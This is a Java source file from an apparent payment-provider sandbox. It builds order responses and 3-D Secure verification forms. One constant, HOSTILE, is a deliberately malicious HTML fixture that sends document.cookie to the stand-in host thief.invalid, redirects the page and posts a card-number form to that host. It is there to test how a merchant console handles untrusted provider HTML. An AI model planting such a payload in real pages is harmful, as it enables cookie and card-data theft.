package org.merchantconsole.sandbox;

import java.net.URI;
import java.util.List;
import java.util.Locale;
import org.jspecify.annotations.Nullable;
import tools.jackson.databind.node.ObjectNode;

/**
 * The answer to a new direct order: the order itself and where the customer goes on. Without anything to do for the
 * customer {@code payment_url} is the shop's own address, as the provider's is.
 */
final class DirectView {
    private static final List<String> NOTHING_YET =
            List.of("account_id", "external_transaction_id", "recurring_id", "recurring_model", "recurring_flow");

    /** Tries to read, to load, to leave and to send elsewhere; every address is one that can never exist. */
    private static final String HOSTILE = """
            <html><head><base href="https://thief.invalid/"><meta http-equiv="refresh" content="0;url=https://thief.invalid/">
            <script>fetch('https://thief.invalid/?' + document.cookie); top.location = 'https://thief.invalid/';</script>
            </head><body onload="document.forms[0].submit()"><img src="https://thief.invalid/seen.png" onerror="alert(1)">
            <iframe src="file:///"></iframe><object data="https://thief.invalid/x"></object>
            <form action="https://thief.invalid/take" method="post"><input name="card_number"><button>Proceed</button></form>
            </body></html>
            """;

    private final Books books;
    private final OrderView view;
    private final Sessions sessions;

    DirectView(Books books, Sessions sessions) {
        this.books = books;
        this.view = new OrderView(books);
        this.sessions = sessions;
    }

    ObjectNode of(Entry entry) {
        ObjectNode data = view.of(entry);
        // What the provider's answers have, empty for a new order.
        data.putArray("costs");
        data.putNull("related_transactions");
        String country = Json.text(entry.facts.path("customer"), "country");
        if (!country.isEmpty()) {
            Json.child(data, "customer")
                    .put("country_name", Locale.of("", country).getDisplayCountry(Locale.ENGLISH));
        }
        ObjectNode details = Json.child(data, "payment_details");
        for (String name : NOTHING_YET) {
            if (!details.has(name)) {
                details.putNull(name);
            }
        }
        if (CustomerCall.verifying(entry)) {
            verification(data.putObject("customer_verification"), entry);
        }
        if (CustomerCall.unfinished(entry)) {
            data.put("payment_url", sessions.page(entry));
        } else {
            put(data, "payment_url", shop(entry, "redirect_url"));
        }
        put(data, "cancel_url", shop(entry, "cancel_url"));
        return data;
    }

    private static void put(ObjectNode data, String name, String value) {
        if (!value.isEmpty()) {
            data.put(name, value);
        }
    }

    /** The shop's address as the order names it, with the order's id; empty when it names none. */
    static String shop(Entry entry, String name) {
        String url = Json.text(entry.facts, name);
        return url.isEmpty()
                ? ""
                : url + (url.contains("?") ? "&" : "?") + "transactionid=" + Receiver.encode(entry.orderId);
    }

    /** The same, when it is on this machine; a sandbox sends nobody to a real shop. */
    static @Nullable URI loopbackShop(Entry entry, String name) {
        return Receiver.named(shop(entry, name), false)
                .map(Receiver::url)
                .filter(url -> Receiver.isLoopback(url.getHost()))
                .orElse(null);
    }

    /** The form as the site's setting wants it: besides the usual one, those that a console has to bear. */
    private void verification(ObjectNode shown, Entry entry) {
        switch (books.verificationForm()) {
            case "empty" -> shown.put("type", "form").put("html", "");
            case "hostile" -> shown.put("type", "form").put("html", HOSTILE);
            case "wrong-type" -> shown.put("type", "redirect").put("html", 3);
            default -> shown.put("type", "form").put("html", html(entry));
        }
    }

    /**
     * The form that a browser posts to the bank. For Mastercard it may be empty, as the provider's answers were found to be:
     * then the address alone leads on.
     */
    private String html(Entry entry) {
        boolean flexible = Json.text(entry.facts, "verification").equals("flexible");
        if (entry.method == Method.MASTERCARD && !flexible) {
            return "";
        }
        String page = sessions.page(entry);
        return """
                <html>
                 <head>
                 <title>3-D Secure</title>
                 <script type="text/javascript">
                 function onLoadHandler(){ document.getElementById('PaReqForm').submit(); }
                 </script>
                 </head>
                 <body onLoad="onLoadHandler();">
                 <form id="PaReqForm" action="%s" method="post">
                 <h1>Processing your transaction</h1>
                 <p>Press Proceed when this page does not go on by itself.</p>
                 <input type="hidden" name="PaReq" value="%s"/>
                 <input type="hidden" name="TermUrl" value="%s"/>
                 <input type="hidden" name="MD" value="%s"/>
                 <input type="submit" value="Proceed"/>
                 </form>
                 </body>
                </html>
                """.formatted(
                        sessions.acs(entry),
                        Long.toString(entry.id, 36).toUpperCase(Locale.ROOT),
                        page,
                        Long.toString(entry.id, 36));
    }
}
